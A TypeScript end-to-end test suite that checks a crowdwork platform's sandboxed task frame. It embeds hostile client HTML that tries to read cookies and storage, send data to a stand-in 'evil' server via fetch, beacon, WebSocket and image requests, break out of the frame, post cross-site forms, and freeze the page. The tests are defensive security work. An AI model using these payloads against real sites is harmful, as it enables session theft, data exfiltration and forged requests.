/** What a hostile client's HTML can do to the site, to other workers and to who looks: nothing. */
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { acceptNext } from '#domain/assignments/commands/accept-task.ts';
import { readAssignment } from '#domain/assignments/queries/assignment-page.ts';
import type { MemberActor } from '#domain/kernel/actor.ts';
import { orderedBatch } from '#test/cast/batches.ts';
import { payIn } from '#test/cast/contracts.ts';
import { castMember } from '#test/cast/members.ts';
import { framePath } from '#web/task-frame/frame-token.ts';
import { testDatabase } from '../database.ts';
import { CHROMIUM, openBrowser } from './browser.ts';
import { serveHostile, serveOtherSite } from './hostile-site.ts';

const { run, readDb } = await testDatabase();
const client = await castMember(run, 'Mara Oduya');
const worker = await castMember(run, 'Chidi Okafor');
const other = await castMember(run, 'Grace Santos');
await payIn(run, client, { amountMinor: 1_000_000n });
const site = await serveHostile({ readDb, run }, { client, worker, other });
const evil = await serveOtherSite();

type Work = { assignmentId: string; frame: string };

/** A client orders a task with this HTML, and the worker accepts it. */
async function accepted(html: string, scripts = true, who: MemberActor = worker): Promise<Work> {
  const form = { kind: 'html', html, scripts } as const;
  const tasks = [{ input: { thing: 'a "quoted" <thing>' } }];
  const batchId = await orderedBatch(run, client, { form }, { tasks });
  const { assignmentId } = await run(acceptNext, { batchId }, { actor: who, root: batchId });
  const shown = { kind: 'assignment', id: assignmentId } as const;
  const until = new Date(Date.now() + 3_600_000);
  return { assignmentId, frame: framePath({ shown, workerId: who.partyId, until }, site.secret) };
}

describe.skipIf(CHROMIUM === undefined)('foreign HTML', () => {
  let browser: Browser;
  let workers: BrowserContext;
  let bystander: Page;
  let calm: string;

  beforeAll(async () => {
    browser = await openBrowser();
    workers = await signedIn('worker');
    bystander = await (await signedIn('other')).newPage();
    await bystander.goto(`${site.url}/notifications`);
    calm = (await bystander.locator('h1').textContent()) ?? '';
  });
  beforeEach(() => {
    evil.requests.length = 0;
    site.requests.length = 0;
  });
  afterEach(async () => {
    for (const page of workers.pages()) await page.close();
  });
  afterAll(async () => {
    await browser?.close();
    await site.stop();
    await evil.stop();
  });

  async function signedIn(name: string): Promise<BrowserContext> {
    const context = await browser.newContext();
    const cookie = { url: site.url, sameSite: 'Lax' } as const;
    await context.addCookies([
      { ...cookie, name: 'cast', value: name },
      { ...cookie, name: 'readable', value: 'private-cookie' },
    ]);
    return context;
  }

  async function open(html: string, scripts = true): Promise<Page & Work> {
    const work = await accepted(html, scripts);
    const page = await workers.newPage();
    await page.goto(site.around(work.frame, '/notifications'), { waitUntil: 'commit' });
    await page.locator('#count').waitFor();
    return Object.assign(page, work);
  }

  /** The page around answers at once, is where it was, and so does the other worker's. */
  async function untouched(page: Page): Promise<void> {
    await page.locator('#count').click({ timeout: 5_000 });
    expect(await page.locator('#count').textContent({ timeout: 5_000 })).toBe('1');
    expect(new URL(page.url()).pathname).toBe('/around');
    expect(await page.evaluate(() => localStorage.getItem('draft'))).toBe('private draft');
    expect(workers.pages()).toHaveLength(1);
    await bystander.reload({ timeout: 5_000 });
    expect(await bystander.locator('h1').textContent()).toBe(calm);
    expect(evil.requests).toEqual([]);
  }

  const heard = (page: Page) =>
    page.evaluate(() => (window as unknown as { heard: unknown[] }).heard);

  it('takes an honest answer without a cookie, once, and the page around goes on', async () => {
    const html =
      '<p id="t" title="${thing}">${thing}</p><form><input name="colour"><input type="hidden" name="workerId" value="x"><input type="checkbox" name="more" value="a" checked><input type="checkbox" name="more" value="b" checked><button>Go</button></form>';
    const page = await open(html, false);
    const frame = page.frameLocator('#task');
    expect(await frame.locator('#t').textContent()).toBe('a "quoted" <thing>');
    await frame.locator('input[name="colour"]').fill('red');
    await frame.getByRole('button', { name: 'Go' }).click();
    await page.waitForURL(`${site.url}/notifications`);
    const posts = site.requests.filter(({ method }) => method === 'POST');
    expect(posts.map(({ cookie }) => cookie)).toEqual(['']);
    const { state, answer } = await readAssignment(readDb, page.assignmentId);
    expect({ state, answer }).toEqual({
      state: 'submitted',
      answer: { colour: 'red', more: ['a', 'b'] },
    });
    const again = await fetch(`${site.url}${page.frame}/answer`, {
      method: 'POST',
      body: new URLSearchParams({ colour: 'blue' }),
    });
    expect(again.status).toBe(410);
  });

  it('reads neither cookies nor storage nor pages, and tells nobody anything', async () => {
    const page = await open(`<script>
      const tries = {
        cookie: () => document.cookie,
        storage: () => localStorage.getItem('draft'),
        session: () => sessionStorage.length,
        database: () => indexedDB.open('x'),
        parent: () => parent.document.body.textContent,
        top: () => top.document.cookie,
        heard: () => parent.heard.length,
        fetched: async () => (await fetch('/money', { credentials: 'include' })).text(),
        asked: () => new Promise((done, fail) => {
          const ask = new XMLHttpRequest();
          ask.open('GET', '/notifications'); ask.withCredentials = true;
          ask.onload = () => done(ask.responseText); ask.onerror = () => fail(new Error('xhr'));
          ask.send();
        }),
        sent: async () => (await fetch('${evil.url}/?c=1', { mode: 'no-cors' })).type,
        beacon: () => navigator.sendBeacon('${evil.url}/beacon', 'c=1') && undefined,
        socket: () => new Promise((done, fail) => {
          const socket = new WebSocket('${evil.url.replace('http', 'ws')}/ws');
          socket.onopen = () => done('open'); socket.onerror = () => fail(new Error('ws'));
        }),
        worker: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))) && undefined,
      };
      new Image().src = '${evil.url}/image?c=1';
      const tags = [['link', 'href'], ['iframe', 'src'], ['object', 'data'], ['video', 'src']];
      for (const [tag, at] of tags) {
        const one = document.createElement(tag);
        one.rel = 'stylesheet'; one[at] = '${evil.url}/' + tag;
        document.documentElement.append(one);
      }
      const style = document.createElement('style');
      style.textContent = '@import url(${evil.url}/css); p { background: url(${evil.url}/b) }';
      document.documentElement.append(style, document.createElement('p'));
      (async () => {
        const read = {};
        for (const [name, attempt] of Object.entries(tries)) {
          try { read[name] = await attempt(); } catch { }
        }
        parent.postMessage({ read }, '*');
      })();
    </script>`);
    await page.waitForFunction(() => (window as unknown as { heard: unknown[] }).heard.length > 0);
    expect(await heard(page)).toEqual([{ read: {} }]);
    const carried = site.requests.filter(({ cookie, path }) => cookie !== '' && path === '/money');
    expect(carried).toEqual([]);
    await untouched(page);
  });

  it('stays in its frame, whatever it does to get out', async () => {
    const page = await open(`<a id="top" href="${evil.url}/link" target="_top">x</a>
      <form id="f" target="_top"><input name="a" value="1"></form>
      <script>
        const attempts = [
          () => { top.location = '${evil.url}/top'; },
          () => { parent.location.href = '${evil.url}/parent'; },
          () => top.location.replace('javascript:document.body.remove()'),
          () => window.open('${evil.url}/popup'),
          () => window.open('${evil.url}/named', '_top'),
          () => document.getElementById('top').click(),
          () => document.documentElement.requestFullscreen(),
          () => alert('x'),
          () => parent.postMessage('anyshore:something', '*'),
          () => { parent.document.title = 'gone'; },
          () => { location = '${evil.url}/self?c=1'; },
        ];
        for (const attempt of attempts) { try { attempt(); } catch { } }
      </script>`);
    await page.waitForTimeout(1_500);
    expect(await page.title()).toBe('Work');
    await untouched(page);
  });

  it('reaches pages of ours only as a stranger', async () => {
    const page = await open(
      `<img src="/money"><script>location = '/notifications?stolen';</script>`,
    );
    await page.waitForTimeout(1_500);
    const asked = site.requests.filter(({ path }) => /stolen|money/.test(path));
    expect(asked.map(({ cookie }) => cookie).filter((cookie) => cookie !== '')).toEqual([]);
    const shown = page.frames().map((frame) => frame.evaluate(() => document.body.textContent));
    const texts = await Promise.allSettled(shown);
    const inFrame = texts.slice(1).map((one) => (one.status === 'fulfilled' ? one.value : ''));
    expect(inFrame.join('')).not.toContain(calm);
    await untouched(page);
  });

  it.each([
    ['another site', () => `${evil.url}/form`],
    ['our sign-out', () => `${site.url}/sign-out`],
    ['another page of ours', () => `${site.url}/theme`],
  ])('posts no form to %s', async (_where, action) => {
    const page = await open(`<form id="f" action="${action()}"><input name="a" value="1"></form>
      <script>
        const own = document.createElement('form');
        own.method = 'post'; own.action = '${action()}'; document.body.append(own);
        own.submit();
        const first = document.getElementById('f');
        const button = document.createElement('button');
        button.formAction = '${action()}'; first.append(button); button.click();
      </script>`);
    await page.waitForTimeout(1_000);
    const posts = site.requests.filter(({ method }) => method === 'POST');
    expect(posts.filter(({ path }) => !path.startsWith('/task-frame/'))).toEqual([]);
    expect(posts.filter(({ cookie }) => cookie !== '')).toEqual([]);
    expect((await readAssignment(readDb, page.assignmentId)).state).toBe('accepted');
    await untouched(page);
  });

  it('may loop for ever: the page around does not wait for it', async () => {
    const page = await open('<p>x</p><script>for (;;) { }</script>');
    await untouched(page);
  });

  it('may write without end', async () => {
    const page = await open(`<script>
      let written = 0;
      setInterval(() => {
        if (written++ < 40) document.write('<b>' + 'x'.repeat(1_000_000) + '</b>');
      }, 0);
    </script>`);
    await untouched(page);
  });

  it('cannot send more than 64 KB', async () => {
    const page = await open(`<form id="f"><textarea name="a"></textarea></form><script>
      document.querySelector('textarea').value = 'x'.repeat(200_000);
      document.getElementById('f').submit();
    </script>`);
    await page.frameLocator('#task').getByText('larger than 64 KB').waitFor();
    expect((await readAssignment(readDb, page.assignmentId)).state).toBe('accepted');
    await untouched(page);
  });

  it('runs nothing where scripts were not asked for', async () => {
    const page = await open(
      `<meta http-equiv="refresh" content="0;url=${evil.url}/refresh"><base href="${evil.url}/">
      <script>parent.postMessage('ran', '*')</script><img src="x" onerror="parent.postMessage('ran', '*')">
      <svg onload="parent.postMessage('ran', '*')"></svg>
      <style>* { position: fixed; inset: 0 !important; z-index: 2147483647 !important }</style>
      <div>covers everything</div><form action="${evil.url}/form"><input name="a"></form>`,
      false,
    );
    await page.waitForTimeout(800);
    expect(await heard(page)).toEqual([]);
    await untouched(page);
  });

  it('goes on only at a word of the frame itself', async () => {
    const page = await open('<input name="x">', false);
    await page.evaluate(() => {
      const stranger = document.createElement('iframe');
      stranger.src = '/task-frame/none';
      document.body.append(stranger);
      window.postMessage('anyshore:answered', '*');
    });
    await page.waitForTimeout(500);
    expect(await heard(page)).toEqual(['anyshore:answered']);
    await untouched(page);
  });

  it.each([
    ['another secret', (frame: string) => `${frame.slice(0, -4)}AAAA`],
    ['nothing', () => '/task-frame/x.y'],
  ])('shows nothing for a right signed with %s', async (_what, spoil) => {
    const { frame } = await accepted('<input name="private">', false);
    for (const answer of [
      await fetch(site.url + spoil(frame)),
      await fetch(`${site.url}${spoil(frame)}/answer`, { method: 'POST', body: 'a=1' }),
    ]) {
      expect(answer.status).toBe(410);
      expect(await answer.text()).not.toContain('private');
    }
  });
});
